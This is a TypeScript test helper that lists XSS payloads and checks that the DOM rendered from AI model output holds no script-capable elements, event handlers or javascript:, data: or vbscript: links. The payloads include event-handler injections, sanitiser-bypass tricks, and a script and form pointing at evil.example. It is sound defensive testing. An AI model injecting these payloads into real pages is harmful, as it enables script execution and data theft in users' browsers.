/**
 * Hostile text a model (or a chart note quoted by one) might return, and the check that
 * rendered DOM holds nothing that could run it. Shared by the markdown module's tests and the
 * elements that show model output.
 */
import { expect } from '@open-wc/testing';

export const XSS_PAYLOADS: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1) )',
  '[x](&#106;avascript:alert(1))',
  '[x](java%0ascript:alert(1))',
  '<javascript:alert(1)>',
  '[x](vbscript:msgbox(1))',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](https://example.org "t\\" onmouseover=\\"alert(1)")',
  '<a href="https://example.org" onclick="alert(1)">x</a>',
  '<svg onload=alert(1)><circle r=5 /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,x"></object><embed src="x">',
  '<form action="https://evil.example"><input name=q><button>Go</button></form>',
  '<style>*{display:none}</style><p style="position:fixed">x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '![x](https://tracker.example/pixel.png)',
  '![x](javascript:alert(1))',
  '`<img src=x onerror=alert(1)>`',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<<script>script>alert(1)<</script>/script>',
  '<a href="https://example.org"><img src=x onerror=alert(1)></a>',
  '- [ ] task <img src=x onerror=alert(1)>',
];

const SCRIPT_CAPABLE = 'script, iframe, frame, object, embed, img, svg, math, style, link, meta, base, form, input, button, textarea, select, details, noscript, template, video, audio, source';

/**
 * Fails if `root` holds an element or attribute that could run script, style the page or load
 * anything. `ownControls` names the element's own controls (its buttons, its `<details>`),
 * which are exempt from the element check but not from the attribute checks.
 */
export function assertNoActiveContent(root: ParentNode, context: string, ownControls?: string): void {
  const found = [...root.querySelectorAll(SCRIPT_CAPABLE)].filter((element) => !(ownControls && element.matches(ownControls)));
  expect(
    found.map((element) => element.outerHTML),
    `${context}: script-capable element`,
  ).to.deep.equal([]);
  for (const element of root.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      expect(name.startsWith('on'), `${context}: ${name} on <${element.localName}>`).to.equal(false);
      expect(['style', 'src', 'srcdoc', 'action', 'formaction', 'xlink:href'].includes(name), `${context}: ${name} on <${element.localName}>`).to.equal(false);
      if (name === 'href') {
        expect(attribute.value, `${context}: href`).to.match(/^https?:\/\//i);
      }
      expect(attribute.value, `${context}: ${name}`).to.not.match(/^\s*(?:javascript|data|vbscript):/i);
    }
  }
}
